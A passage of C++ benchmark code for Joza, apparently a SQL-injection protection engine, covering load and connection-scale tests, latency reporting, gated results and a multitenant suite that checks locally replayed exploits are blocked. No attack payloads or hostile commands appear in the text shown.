      if (sustained_out != nullptr) {
        // Park `target` keep-alive connections, each proven live by one
        // served request. They then sit idle on the event loop while the
        // active clients below drive load.
        for (std::size_t i = 0; i < target; ++i) {
          auto conn =
              std::make_unique<gateway::KeepAliveClient>(port.value());
          auto r = conn->Get("/post?id=" + std::to_string(i % 50 + 1));
          if (!r.ok() || r->status != 200) break;
          herd.push_back(std::move(conn));
        }
      }
      auto drive = [&](std::size_t n) {
        return DriveClients(kClients, n, [&](std::size_t c) {
          auto conn =
              std::make_shared<gateway::KeepAliveClient>(port.value());
          return [&, conn, c](std::size_t i) {
            auto resp = conn->RoundTrip(crawl[(c * n + i) % crawl.size()]);
            return resp.ok();
          };
        });
      };
      // Warmup leg (engine caches, allocator, scheduler), then a measured
      // leg long enough to average out single-core scheduling noise.
      drive(per_client / 2 + 1);
      RunResult r = drive(options.quick ? 120 : 300);
      if (sustained_out != nullptr) {
        // Every parked connection must still answer on its ORIGINAL socket:
        // a reconnect means the server dropped it under the idle mass.
        std::size_t sustained = 0;
        for (auto& conn : herd) {
          auto probe = conn->Get("/post?id=1");
          if (probe.ok() && probe->status == 200 &&
              conn->reconnects() == 0) {
            ++sustained;
          }
        }
        *sustained_out = sustained;
        herd.clear();  // close the herd before stopping the server
      }
      server.Stop();
      return r;
    };

    std::size_t sustained = 0;
    double epoll_qps = 0, epoll_p99 = 0, thread_qps = 0, thread_p99 = 0;
    {
      auto proto = attack::MakeTestbed();
      core::JozaConfig config;
      config.cache_capacity = 1 << 16;
      core::Joza joza = core::Joza::Install(*proto, config);
      // The thread model serves the same active load at its own maximum
      // concurrency (8 workers); it cannot hold the idle herd at all —
      // every parked connection would pin a worker thread. Measured first
      // so any process-wide cold-start cost lands on neither model's
      // comparison leg unfairly.
      RunResult r = run_load(gateway::GatewayConfig::IoModel::kThreads, joza,
                             nullptr);
      thread_qps = r.qps();
      thread_p99 = r.p99_ms;
    }
    {
      auto proto = attack::MakeTestbed();
      core::JozaConfig config;
      config.cache_capacity = 1 << 16;
      core::Joza joza = core::Joza::Install(*proto, config);
      RunResult r = run_load(gateway::GatewayConfig::IoModel::kEpoll, joza,
                             &sustained);
      epoll_qps = r.qps();
      epoll_p99 = r.p99_ms;
    }

    Table scale({"Model", "Idle conns", "QPS", "p99 ms"});
    scale.AddRow({"epoll", std::to_string(sustained), Num(epoll_qps, 0),
                  Num(epoll_p99, 3)});
    scale.AddRow({"threads", "0", Num(thread_qps, 0), Num(thread_p99, 3)});
    scale.Print("Connection scale (active load under " +
                std::to_string(target) + " parked keep-alive connections)");

    result.AddInfo("connscale.sustained", static_cast<double>(sustained),
                   "conns");
    result.AddInfo("connscale.epoll.qps", epoll_qps, "qps");
    result.AddInfo("connscale.epoll.p99_ms", epoll_p99, "ms");
    result.AddInfo("connscale.threads.qps", thread_qps, "qps");
    result.AddInfo("connscale.threads.p99_ms", thread_p99, "ms");
    if (target >= 256) {
      result.RequireGe("every parked connection survives and answers",
                       "connscale.sustained",
                       static_cast<double>(target));
      // Slack bounds: the event loop must stay in the thread pool's range
      // while carrying four orders of magnitude more connections than the
      // pool could hold. Machine-dependent, so gated with grace margins.
      result.RequireGe("epoll qps under idle mass within 25% of threads",
                       "connscale.epoll.qps", thread_qps * 0.75);
      result.RequireLe("epoll p99 under idle mass bounded vs threads",
                       "connscale.epoll.p99_ms",
                       thread_p99 * 1.5 + 0.25);
    } else {
      std::printf("connscale: fd limit %llu too low, gates skipped\n",
                  static_cast<unsigned long long>(lim.rlim_cur));
    }
  }
  return result;
}

}  // namespace joza::benchkit
