#include "benchkit/registry.h"

#include "benchkit/suites.h"

namespace joza::benchkit {

const std::vector<SuiteSpec>& Suites() {
  static const std::vector<SuiteSpec> kSuites = {
      {"smoke",
       "CI gate: NTI matcher tiers + verdict parity + engine workload",
       RunSmokeSuite},
      {"benign_wp",
       "WordPress.com-shaped benign mixes: protection overhead + caches",
       RunBenignWpSuite},
      {"attack_heavy",
       "full exploit catalog end-to-end: detection + false positives",
       RunAttackHeavySuite},
      {"churn",
       "concurrent gateway under ruleset snapshot churn + consistency",
       RunChurnSuite},
      {"degraded",
       "gateway under injected PTI faults: fail-open safety + breaker",
       RunDegradedSuite},
      {"multitenant",
       "tenant fleet under Zipf load: residency budget + verdict parity",
       RunMultitenantSuite},
      {"costmodel",
       "calibrated cost model: codec gates + verdict parity + throughput",
       RunCostmodelSuite},
  };
  return kSuites;
}

const SuiteSpec* FindSuite(const std::string& name) {
  for (const SuiteSpec& s : Suites()) {
    if (s.name == name) return &s;
  }
  return nullptr;
}

}  // namespace joza::benchkit
