// The suite registry: every named workload suite the unified runner can
// execute. Suites are plain functions (no static-initializer registration,
// so the set is deterministic and link-order independent).
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "benchkit/result.h"

namespace joza::benchkit {

using SuiteFn = std::function<SuiteResult(const SuiteOptions&)>;

struct SuiteSpec {
  std::string name;
  std::string description;
  SuiteFn fn;
};

// All built-in suites, in documentation order.
const std::vector<SuiteSpec>& Suites();

// nullptr when no suite has that name.
const SuiteSpec* FindSuite(const std::string& name);

}  // namespace joza::benchkit
