// Shared measurement layer for every benchmark: percentile math, latency
// recording with warmup/steady-state phases, and the console table / number
// formatting previously duplicated in bench/perf_util.h and bench/report.h.
#pragma once

#include <algorithm>
#include <cstddef>
#include <cstdio>
#include <string>
#include <vector>

namespace joza::benchkit {

// Interpolated percentile of an UNSORTED sample (the input is copied and
// sorted internally). p in [0, 1]; linear interpolation between order
// statistics, so Percentile({1,2,3,4}, 0.5) == 2.5. Empty input yields 0.
double Percentile(std::vector<double> samples, double p);

// Percentile over data the caller has already sorted ascending (no copy).
double PercentileSorted(const std::vector<double>& sorted, double p);

// One phase's latency summary, all in the unit the samples were recorded in
// (the suites record milliseconds).
struct LatencySummary {
  std::size_t count = 0;
  double mean = 0;
  double p50 = 0;
  double p95 = 0;
  double p99 = 0;
  double max = 0;
};

// Accumulates per-operation latencies and wall time, with an optional
// warmup phase whose samples are excluded from the steady-state summary.
// Not thread-safe; concurrent drivers record per-thread and Merge().
class LatencyRecorder {
 public:
  // Marks the end of warmup: samples recorded before this call are dropped
  // from Summary() and qps().
  void EndWarmup() { warmup_end_ = samples_.size(); }

  void Record(double value) { samples_.push_back(value); }

  void Merge(const LatencyRecorder& other);

  // Steady-state (post-warmup) sample count.
  std::size_t count() const { return samples_.size() - warmup_end_; }

  LatencySummary Summary() const;

  // Operations per second given the steady-state wall time in seconds.
  double Qps(double steady_seconds) const;

 private:
  std::vector<double> samples_;
  std::size_t warmup_end_ = 0;
};

// --- Console reporting (formerly bench/report.h) ---------------------------

class Table {
 public:
  explicit Table(std::vector<std::string> headers)
      : headers_(std::move(headers)) {
    widths_.resize(headers_.size());
    for (std::size_t i = 0; i < headers_.size(); ++i) {
      widths_[i] = headers_[i].size();
    }
  }

  void AddRow(std::vector<std::string> cells) {
    cells.resize(headers_.size());
    for (std::size_t i = 0; i < cells.size(); ++i) {
      widths_[i] = std::max(widths_[i], cells[i].size());
    }
    rows_.push_back(std::move(cells));
  }

  void Print(const std::string& title) const {
    std::printf("\n=== %s ===\n", title.c_str());
    PrintRow(headers_);
    std::string sep;
    for (std::size_t i = 0; i < headers_.size(); ++i) {
      sep += std::string(widths_[i] + 2, '-');
      if (i + 1 < headers_.size()) sep += "+";
    }
    std::printf("%s\n", sep.c_str());
    for (const auto& row : rows_) PrintRow(row);
    std::fflush(stdout);
  }

 private:
  void PrintRow(const std::vector<std::string>& cells) const {
    std::string line;
    for (std::size_t i = 0; i < cells.size(); ++i) {
      line += " " + cells[i] + std::string(widths_[i] - cells[i].size(), ' ') +
              " ";
      if (i + 1 < cells.size()) line += "|";
    }
    std::printf("%s\n", line.c_str());
  }

  std::vector<std::string> headers_;
  std::vector<std::vector<std::string>> rows_;
  std::vector<std::size_t> widths_;
};

inline std::string Pct(double fraction, int decimals = 2) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.*f%%", decimals, fraction * 100.0);
  return buf;
}

inline std::string Num(double v, int decimals = 4) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.*f", decimals, v);
  return buf;
}

}  // namespace joza::benchkit
