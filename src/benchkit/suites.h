// The built-in workload suites. Each fills a SuiteResult with metrics,
// latency summaries, per-stage engine counters and declarative gates; the
// registry binds them to their names.
#pragma once

#include "benchkit/result.h"

namespace joza::benchkit {

// smoke: the CI gate. In-process matcher ablation (staged vs bounded vs
// reference NTI tiers on a benign many-input workload), full staged-vs-
// reference verdict-parity sweep, and a mixed workload served through the
// whole engine for QPS/latency and per-stage counters.
SuiteResult RunSmokeSuite(const SuiteOptions& options);

// benign_wp: WordPress.com-shaped benign traffic mixes; measures the
// protection overhead (plain vs protected) and cache effectiveness.
SuiteResult RunBenignWpSuite(const SuiteOptions& options);

// attack_heavy: the full exploit catalog (originals + NTI-evasion mutants)
// mixed into benign traffic; gates on end-to-end detection and zero
// benign false positives.
SuiteResult RunAttackHeavySuite(const SuiteOptions& options);

// churn: the concurrent gateway under ruleset-snapshot churn; gates on
// reader p99/QPS loss and sequential-vs-concurrent verdict consistency.
SuiteResult RunChurnSuite(const SuiteOptions& options);

// degraded: the gateway under injected PTI faults (healthy / hang / outage
// / recovery); gates on zero fail-open and a full breaker cycle.
SuiteResult RunDegradedSuite(const SuiteOptions& options);

// multitenant: the tenant fleet's tiered residency (64 Zipf tenants, a
// budget admitting ~8 hot); gates on budgeted-vs-unbudgeted verdict
// parity, the ledger never exceeding the budget, cold first-touch attacks
// blocked, and a bounded p99 under demote/promote churn.
SuiteResult RunMultitenantSuite(const SuiteOptions& options);

// costmodel: in-process quick calibration + JZCM01 codec gates, verdict
// parity of staged matching under measured and adversarial cost models vs
// the reference tier, calibrated-vs-builtin throughput, and batch-admission
// decision agreement.
SuiteResult RunCostmodelSuite(const SuiteOptions& options);

}  // namespace joza::benchkit
