// Application-serving timing helpers shared by the in-process benches and
// suites (formerly bench/perf_util.h). Header-only: these sit on top of
// webapp::Application, which the measurement layer itself must not depend
// on.
#pragma once

#include <algorithm>
#include <cstdint>
#include <vector>

#include "attack/workload.h"
#include "util/stopwatch.h"
#include "webapp/application.h"

namespace joza::benchkit {

// Serves the workload once; returns wall seconds.
inline double ServeOnce(webapp::Application& app,
                        const std::vector<attack::WorkloadRequest>& workload) {
  Stopwatch watch;
  for (const attack::WorkloadRequest& wr : workload) {
    app.Handle(wr.request);
  }
  return watch.ElapsedSeconds();
}

// Best-of-N timing to suppress scheduler noise.
inline double ServeBest(webapp::Application& app,
                        const std::vector<attack::WorkloadRequest>& workload,
                        int repetitions = 5) {
  double best = 1e100;
  for (int i = 0; i < repetitions; ++i) {
    best = std::min(best, ServeOnce(app, workload));
  }
  return best;
}

inline double Overhead(double plain, double protected_time) {
  return (protected_time - plain) / plain;
}

// Serves `reps` *distinct* workloads once each and returns the total wall
// seconds. Real write traffic is textually unique; replaying one workload
// would let the query cache absorb writes it could never cache in
// production. The same seeds must be used for the plain and protected
// measurements.
template <typename MakeWorkload>
double ServeFreshTotal(webapp::Application& app, MakeWorkload&& make,
                       int reps, std::uint64_t seed_base) {
  double total = 0;
  for (int i = 0; i < reps; ++i) {
    const auto workload = make(seed_base + static_cast<std::uint64_t>(i));
    total += ServeOnce(app, workload);
  }
  return total;
}

// Interleaved plain/protected measurement over fresh workloads: each
// repetition serves the same workload to both applications back to back,
// so machine-load drift hits both sides equally.
struct PairTiming {
  double plain = 0;
  double protected_time = 0;
  double overhead() const { return Overhead(plain, protected_time); }
};

template <typename MakeWorkload>
PairTiming MeasurePair(webapp::Application& plain_app,
                       webapp::Application& protected_app, MakeWorkload&& make,
                       int reps, std::uint64_t seed_base) {
  PairTiming t;
  for (int i = 0; i < reps; ++i) {
    const auto workload = make(seed_base + static_cast<std::uint64_t>(i));
    t.plain += ServeOnce(plain_app, workload);
    t.protected_time += ServeOnce(protected_app, workload);
  }
  return t;
}

}  // namespace joza::benchkit
