#include "benchkit/result.h"

#include <sys/utsname.h>
#include <unistd.h>

#include <cmath>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <thread>

namespace joza::benchkit {

const char* DirectionName(Direction d) {
  switch (d) {
    case Direction::kHigherBetter: return "higher_better";
    case Direction::kLowerBetter: return "lower_better";
    case Direction::kExact: return "exact";
    case Direction::kInfo: return "info";
  }
  return "info";
}

void SuiteResult::Add(Metric m) { metrics_.push_back(std::move(m)); }

void SuiteResult::AddCompared(const std::string& name, double value,
                              const std::string& unit, Direction direction,
                              double tolerance, double abs_slack) {
  Add({name, value, unit, direction, tolerance, abs_slack});
}

void SuiteResult::AddExact(const std::string& name, double value,
                           const std::string& unit) {
  Add({name, value, unit, Direction::kExact, 0, 0});
}

void SuiteResult::AddInfo(const std::string& name, double value,
                          const std::string& unit) {
  Add({name, value, unit, Direction::kInfo, 0, 0});
}

void SuiteResult::AddLatency(const std::string& prefix,
                             const LatencySummary& summary) {
  AddInfo(prefix + ".p50_ms", summary.p50, "ms");
  AddInfo(prefix + ".p95_ms", summary.p95, "ms");
  AddInfo(prefix + ".p99_ms", summary.p99, "ms");
  AddInfo(prefix + ".mean_ms", summary.mean, "ms");
  AddInfo(prefix + ".max_ms", summary.max, "ms");
  AddInfo(prefix + ".samples", static_cast<double>(summary.count), "count");
}

const Metric* SuiteResult::FindMetric(const std::string& name) const {
  for (const Metric& m : metrics_) {
    if (m.name == name) return &m;
  }
  return nullptr;
}

void SuiteResult::Require(const std::string& gate, const std::string& metric,
                          const char* op, double threshold) {
  GateResult g;
  g.name = gate;
  g.metric = metric;
  g.op = op;
  g.threshold = threshold;
  const Metric* m = FindMetric(metric);
  if (m == nullptr) {
    g.value = std::nan("");
    g.passed = false;  // asserting on a metric the suite never produced
  } else {
    g.value = m->value;
    if (std::strcmp(op, ">=") == 0) {
      g.passed = g.value >= threshold;
    } else if (std::strcmp(op, "<=") == 0) {
      g.passed = g.value <= threshold;
    } else {
      g.passed = g.value == threshold;
    }
  }
  gates_.push_back(std::move(g));
}

void SuiteResult::RequireGe(const std::string& gate, const std::string& metric,
                            double threshold) {
  Require(gate, metric, ">=", threshold);
}

void SuiteResult::RequireLe(const std::string& gate, const std::string& metric,
                            double threshold) {
  Require(gate, metric, "<=", threshold);
}

void SuiteResult::RequireEq(const std::string& gate, const std::string& metric,
                            double threshold) {
  Require(gate, metric, "==", threshold);
}

bool SuiteResult::AllGatesPassed() const {
  for (const GateResult& g : gates_) {
    if (!g.passed) return false;
  }
  return true;
}

bool SuiteResult::ReportGates() const {
  for (const GateResult& g : gates_) {
    if (g.passed) {
      std::printf("gate OK  : %s (%s = %g %s %g)\n", g.name.c_str(),
                  g.metric.c_str(), g.value, g.op.c_str(), g.threshold);
    } else if (std::isnan(g.value)) {
      std::printf("gate FAIL: %s — metric '%s' was never recorded "
                  "(required %s %g)\n",
                  g.name.c_str(), g.metric.c_str(), g.op.c_str(),
                  g.threshold);
    } else {
      std::printf("gate FAIL: %s — %s = %g violates %s %g\n", g.name.c_str(),
                  g.metric.c_str(), g.value, g.op.c_str(), g.threshold);
    }
  }
  std::fflush(stdout);
  return AllGatesPassed();
}

Json SuiteResult::ToJson() const {
  JsonObject meta;
  meta.emplace_back("hostname", Json(meta_.hostname));
  meta.emplace_back("kernel", Json(meta_.kernel));
  meta.emplace_back("hardware_threads",
                    Json(static_cast<double>(meta_.hardware_threads)));
  meta.emplace_back("compiler", Json(meta_.compiler));
  meta.emplace_back("build_type", Json(meta_.build_type));
  meta.emplace_back("timestamp_utc", Json(meta_.timestamp_utc));

  JsonObject metrics;
  for (const Metric& m : metrics_) {
    JsonObject f;
    f.emplace_back("value", Json(m.value));
    f.emplace_back("unit", Json(m.unit));
    f.emplace_back("direction", Json(DirectionName(m.direction)));
    if (m.direction != Direction::kInfo) {
      f.emplace_back("tolerance", Json(m.tolerance));
      if (m.abs_slack > 0) f.emplace_back("abs_slack", Json(m.abs_slack));
    }
    metrics.emplace_back(m.name, Json(std::move(f)));
  }

  JsonArray gates;
  for (const GateResult& g : gates_) {
    JsonObject f;
    f.emplace_back("name", Json(g.name));
    f.emplace_back("metric", Json(g.metric));
    f.emplace_back("op", Json(g.op));
    f.emplace_back("threshold", Json(g.threshold));
    f.emplace_back("value", Json(std::isnan(g.value) ? Json() : Json(g.value)));
    f.emplace_back("passed", Json(g.passed));
    gates.push_back(Json(std::move(f)));
  }

  JsonObject root;
  root.emplace_back("schema_version", Json(kSchemaVersion));
  root.emplace_back("suite", Json(suite_));
  root.emplace_back("seed", Json(options_.seed));
  root.emplace_back("quick", Json(options_.quick));
  root.emplace_back("meta", Json(std::move(meta)));
  root.emplace_back("metrics", Json(std::move(metrics)));
  root.emplace_back("gates", Json(std::move(gates)));
  return Json(std::move(root));
}

RunMetadata CollectRunMetadata() {
  RunMetadata meta;
  char host[256] = {0};
  if (gethostname(host, sizeof host - 1) == 0) meta.hostname = host;
  struct utsname un;
  if (uname(&un) == 0) {
    meta.kernel = std::string(un.sysname) + " " + un.release;
  }
  meta.hardware_threads = std::thread::hardware_concurrency();
#ifdef __VERSION__
  meta.compiler = __VERSION__;
#endif
#ifdef NDEBUG
  meta.build_type = "release";
#else
  meta.build_type = "debug";
#endif
  std::time_t now = std::time(nullptr);
  std::tm tm_utc;
  gmtime_r(&now, &tm_utc);
  char ts[32];
  std::strftime(ts, sizeof ts, "%Y-%m-%dT%H:%M:%SZ", &tm_utc);
  meta.timestamp_utc = ts;
  return meta;
}

}  // namespace joza::benchkit
