// multitenant: the tenant fleet's tiered-residency manager under a Zipf
// tenant popularity curve, 64 tenants with a budget that admits ~8 hot.
//
// Phases:
//   1. Verdict parity (gated): an identical seeded event sequence — Zipf
//      tenant picks over mixed benign/attack traffic — is driven through a
//      budgeted fleet (demote/promote churn through the mmap cold store)
//      and an unbudgeted fleet (every tenant stays hot). Every per-event
//      verdict must match: residency tiering may cost cache warmth, never
//      a verdict. The residency ledger must also never exceed the budget
//      (asserted via the fleet's own peak accounting), churn must actually
//      have happened (cold loads + demotions observed), and no Acquire may
//      fail (fail-closed refusals would surface here).
//   2. Cold-attack sweep (gated): over the wire, one exploit per tenant
//      against a gateway whose every tenant starts cold. Each first-touch
//      promotion must complete and block the attack — a tenant is never
//      served fail-open while its vocabulary is being rebuilt.
//   3. Zipf load under churn (gated): 8 keep-alive clients drive benign
//      Zipf traffic through the budgeted gateway and the unbudgeted one.
//      Budgeted p99 may pay for promotion stalls but must stay within a
//      generous multiple of the unbudgeted tail; no transport failures, no
//      routing 404s, no fail-closed 503s on healthy cold images.
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <random>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "attack/catalog.h"
#include "attack/exploit.h"
#include "attack/workload.h"
#include "benchkit/metrics.h"
#include "benchkit/suites.h"
#include "core/joza.h"
#include "gateway/client.h"
#include "gateway/gateway.h"
#include "http/request.h"
#include "phpsrc/fragments.h"
#include "tenant/fleet.h"

namespace joza::benchkit {

namespace {

constexpr std::size_t kTenants = 64;
constexpr double kZipfSkew = 1.2;

std::string TenantName(std::size_t i) {
  char buf[16];
  std::snprintf(buf, sizeof(buf), "t%02zu", i);
  return buf;
}

// Cumulative Zipf(s) distribution over ranks 1..kTenants; tenant index ==
// popularity rank, so t00 is the hottest tenant.
std::vector<double> ZipfCdf() {
  std::vector<double> cdf(kTenants);
  double sum = 0;
  for (std::size_t i = 0; i < kTenants; ++i) {
    sum += 1.0 / std::pow(static_cast<double>(i + 1), kZipfSkew);
    cdf[i] = sum;
  }
  for (double& c : cdf) c /= sum;
  return cdf;
}

std::size_t SampleZipf(const std::vector<double>& cdf, std::mt19937_64& rng) {
  std::uniform_real_distribution<double> uniform(0.0, 1.0);
  const double u = uniform(rng);
  return static_cast<std::size_t>(
      std::lower_bound(cdf.begin(), cdf.end(), u) - cdf.begin());
}

// Per-tenant seed vocabularies: the shared testbed sources plus one marker
// fragment so every tenant's ruleset (and cold image) is distinct.
std::vector<php::FragmentSet> MakeTenantSeeds() {
  auto app = attack::MakeTestbed();
  std::vector<php::FragmentSet> seeds;
  seeds.reserve(kTenants);
  for (std::size_t i = 0; i < kTenants; ++i) {
    php::FragmentSet seed = php::FragmentSet::FromSources(app->sources());
    seed.AddRaw("SELECT marker_" + TenantName(i) + " FROM posts",
                "tenant/" + TenantName(i) + ".php");
    seeds.push_back(std::move(seed));
  }
  return seeds;
}

core::JozaConfig EngineConfig() {
  core::JozaConfig config;
  // Small verdict cache: keeps the per-tenant byte estimate (and thus the
  // budget that admits ~8 tenants) dominated by the vocabulary, not cache
  // slots.
  config.cache_capacity = 4096;
  return config;
}

// A scratch cold-store directory under TMPDIR; contents are removed in
// RemoveColdDir once the fleet that owned it is gone.
std::string MakeColdDir(const char* tag) {
  const char* base = std::getenv("TMPDIR");
  std::string tmpl = std::string(base != nullptr ? base : "/tmp") +
                     "/joza_mtbench_" + tag + "_XXXXXX";
  std::vector<char> buf(tmpl.begin(), tmpl.end());
  buf.push_back('\0');
  if (::mkdtemp(buf.data()) == nullptr) return {};
  return buf.data();
}

void RemoveColdDir(const std::string& dir) {
  if (dir.empty()) return;
  for (std::size_t i = 0; i < kTenants; ++i) {
    ::unlink((dir + "/" + TenantName(i) + ".ruleset").c_str());
    ::unlink((dir + "/" + TenantName(i) + ".ruleset.tmp").c_str());
  }
  ::rmdir(dir.c_str());
}

tenant::FleetOptions MakeFleetOptions(std::uint64_t budget_bytes,
                                      std::string cold_dir) {
  tenant::FleetOptions opts;
  opts.engine = EngineConfig();
  opts.memory_budget_bytes = budget_bytes;
  opts.cold_dir = std::move(cold_dir);
  opts.max_concurrent_promotions = 2;
  return opts;
}

Status PopulateFleet(tenant::Fleet& fleet,
                     const std::vector<php::FragmentSet>& seeds) {
  for (std::size_t i = 0; i < kTenants; ++i) {
    Status s = fleet.AddTenant(TenantName(i), seeds[i]);
    if (!s.ok()) return s;
  }
  return Status::Ok();
}

struct MixedEvent {
  http::Request request;
  bool is_attack = false;
};

// Benign crawl traffic with the full original-exploit set mixed in; the
// event stream cycles through this deterministically.
std::vector<MixedEvent> MakeMixedTraffic(std::uint64_t seed) {
  std::vector<MixedEvent> mixed;
  for (attack::WorkloadRequest& wr : attack::MakeCrawlWorkload(48, seed)) {
    mixed.push_back({std::move(wr.request), false});
  }
  for (const auto* plugin : attack::TestbedPlugins()) {
    attack::Exploit e = attack::OriginalExploit(*plugin);
    mixed.push_back(
        {http::Request::Get(plugin->route, {{plugin->param, e.payload}}),
         true});
  }
  // Deterministic interleave so attacks land on a spread of tenants rather
  // than clustering at the cycle tail.
  std::mt19937_64 rng(seed ^ 0x6d74u);
  std::shuffle(mixed.begin(), mixed.end(), rng);
  return mixed;
}

struct InProcessRun {
  std::vector<char> blocked;  // per-event verdict (response status == 500)
  std::size_t blocked_total = 0;
  std::size_t acquire_errors = 0;
  tenant::FleetStats stats;
  double seconds = 0;
  bool setup_failed = false;
};

// Drives the identical event sequence through one fleet, in process and
// single-threaded: determinism is the point, this is the parity reference
// and its budgeted mirror.
InProcessRun DriveInProcess(std::uint64_t budget_bytes,
                            const std::string& cold_dir,
                            const std::vector<php::FragmentSet>& seeds,
                            const std::vector<std::size_t>& tenant_seq,
                            const std::vector<MixedEvent>& mixed) {
  InProcessRun out;
  tenant::Fleet fleet(MakeFleetOptions(budget_bytes, cold_dir));
  if (!PopulateFleet(fleet, seeds).ok()) {
    out.setup_failed = true;
    return out;
  }
  auto app = attack::MakeTestbed();
  out.blocked.reserve(tenant_seq.size());
  const auto start = std::chrono::steady_clock::now();
  for (std::size_t e = 0; e < tenant_seq.size(); ++e) {
    auto pin = fleet.Acquire(TenantName(tenant_seq[e]));
    if (!pin.ok()) {
      ++out.acquire_errors;
      out.blocked.push_back(0);
      continue;
    }
    app->SetQueryGate(pin.value()->MakeGate());
    const http::Response resp =
        app->Handle(mixed[e % mixed.size()].request);
    app->SetQueryGate(nullptr);
    const char blocked = resp.status == 500 ? 1 : 0;
    out.blocked.push_back(blocked);
    out.blocked_total += blocked;
  }
  const auto end = std::chrono::steady_clock::now();
  out.seconds = std::chrono::duration<double>(end - start).count();
  out.stats = fleet.stats();
  return out;
}

struct RunResult {
  double seconds = 0;
  double p50_ms = 0;
  double p99_ms = 0;
  std::size_t requests = 0;
  std::size_t failures = 0;
  double qps() const { return seconds > 0 ? requests / seconds : 0; }
};

template <typename MakeSender>
RunResult DriveClients(std::size_t clients, std::size_t per_client,
                       MakeSender&& make_sender) {
  std::vector<LatencyRecorder> recorders(clients);
  std::atomic<std::size_t> failures{0};
  const auto start = std::chrono::steady_clock::now();
  std::vector<std::thread> threads;
  for (std::size_t c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      auto send_one = make_sender(c);
      for (std::size_t i = 0; i < per_client; ++i) {
        const auto t0 = std::chrono::steady_clock::now();
        if (!send_one(i)) failures.fetch_add(1);
        const auto t1 = std::chrono::steady_clock::now();
        recorders[c].Record(
            std::chrono::duration<double, std::milli>(t1 - t0).count());
      }
    });
  }
  for (auto& t : threads) t.join();
  const auto end = std::chrono::steady_clock::now();

  RunResult r;
  r.seconds = std::chrono::duration<double>(end - start).count();
  r.requests = clients * per_client;
  r.failures = failures.load();
  LatencyRecorder all;
  for (const auto& rec : recorders) all.Merge(rec);
  const LatencySummary summary = all.Summary();
  r.p50_ms = summary.p50;
  r.p99_ms = summary.p99;
  return r;
}

http::Request WithTenant(http::Request request, const std::string& id) {
  request.headers.emplace_back(http::InputKind::kHeader, "X-Joza-Tenant", id);
  return request;
}

}  // namespace

SuiteResult RunMultitenantSuite(const SuiteOptions& options) {
  SuiteResult result("multitenant", options);

  const std::vector<php::FragmentSet> seeds = MakeTenantSeeds();
  const core::JozaConfig engine_config = EngineConfig();
  // Budget sized in the fleet's own estimate units: room for ~8.5 average
  // tenants, so the Zipf head stays resident and the tail churns.
  std::uint64_t per_tenant = 0;
  for (const php::FragmentSet& seed : seeds) {
    per_tenant = std::max(per_tenant,
                          tenant::Fleet::EstimateHotBytes(seed,
                                                          engine_config));
  }
  const std::uint64_t budget = per_tenant * 8 + per_tenant / 2;
  result.AddInfo("budget.per_tenant_bytes",
                 static_cast<double>(per_tenant), "bytes");
  result.AddInfo("budget.bytes", static_cast<double>(budget), "bytes");

  const std::vector<double> cdf = ZipfCdf();
  const std::vector<MixedEvent> mixed = MakeMixedTraffic(options.seed);

  // --- Phase 1: in-process verdict parity, budgeted vs unbudgeted ---------
  const std::size_t events = options.quick ? 2000 : 8000;
  std::vector<std::size_t> tenant_seq(events);
  {
    std::mt19937_64 rng(options.seed);
    for (std::size_t& t : tenant_seq) t = SampleZipf(cdf, rng);
  }

  const std::string budgeted_dir = MakeColdDir("parity");
  InProcessRun unbudgeted =
      DriveInProcess(0, /*cold_dir=*/"", seeds, tenant_seq, mixed);
  InProcessRun budgeted =
      DriveInProcess(budget, budgeted_dir, seeds, tenant_seq, mixed);
  RemoveColdDir(budgeted_dir);
  if (unbudgeted.setup_failed || budgeted.setup_failed) {
    result.AddExact("setup.failed", 1);
    result.RequireEq("fleets construct", "setup.failed", 0);
    return result;
  }

  std::size_t verdict_diff = 0;
  for (std::size_t e = 0; e < events; ++e) {
    if (budgeted.blocked[e] != unbudgeted.blocked[e]) ++verdict_diff;
  }

  Table parity({"Fleet", "Blocked", "Resident", "Peak MB", "Cold loads",
                "Demotions", "QPS"});
  auto parity_row = [&](const char* name, const InProcessRun& run) {
    parity.AddRow({name, std::to_string(run.blocked_total),
                   std::to_string(run.stats.resident),
                   Num(run.stats.peak_resident_bytes / (1024.0 * 1024.0), 2),
                   std::to_string(run.stats.cold_loads),
                   std::to_string(run.stats.demotions),
                   Num(run.seconds > 0 ? events / run.seconds : 0, 0)});
  };
  parity_row("unbudgeted", unbudgeted);
  parity_row("budgeted", budgeted);
  parity.Print("Verdict parity, " + std::to_string(events) +
               " Zipf events over " + std::to_string(kTenants) + " tenants");

  result.AddExact("parity.verdict_diff", static_cast<double>(verdict_diff));
  result.RequireEq("budgeted verdicts identical to unbudgeted",
                   "parity.verdict_diff", 0);
  result.AddExact("parity.blocked", static_cast<double>(budgeted.blocked_total));
  result.AddExact("parity.acquire_errors",
                  static_cast<double>(budgeted.acquire_errors +
                                      unbudgeted.acquire_errors));
  result.RequireEq("no acquire ever fails closed on a healthy cold store",
                   "parity.acquire_errors", 0);
  result.AddExact("parity.fleet_acquire_failures",
                  static_cast<double>(budgeted.stats.acquire_failures +
                                      unbudgeted.stats.acquire_failures));
  result.RequireEq("fleet ledgers agree: zero acquire failures",
                   "parity.fleet_acquire_failures", 0);
  result.AddExact("ledger.budget_exceeded",
                  budgeted.stats.peak_resident_bytes > budget ? 1 : 0);
  result.RequireEq("resident-set peak never exceeds the budget",
                   "ledger.budget_exceeded", 0);
  result.AddExact("ledger.unbudgeted_all_resident",
                  unbudgeted.stats.resident == kTenants ? 1 : 0);
  result.RequireEq("unbudgeted fleet keeps every tenant hot",
                   "ledger.unbudgeted_all_resident", 1);
  result.AddExact("residency.churned",
                  budgeted.stats.cold_loads >= kTenants &&
                          budgeted.stats.demotions > 0
                      ? 1
                      : 0);
  result.RequireEq("the budget actually forced residency churn",
                   "residency.churned", 1);
  result.AddInfo("residency.cold_loads",
                 static_cast<double>(budgeted.stats.cold_loads), "count");
  result.AddInfo("residency.demotions",
                 static_cast<double>(budgeted.stats.demotions), "count");
  result.AddInfo("residency.peak_resident_mb",
                 budgeted.stats.peak_resident_bytes / (1024.0 * 1024.0),
                 "MB");
  result.AddInfo("parity.budgeted_qps",
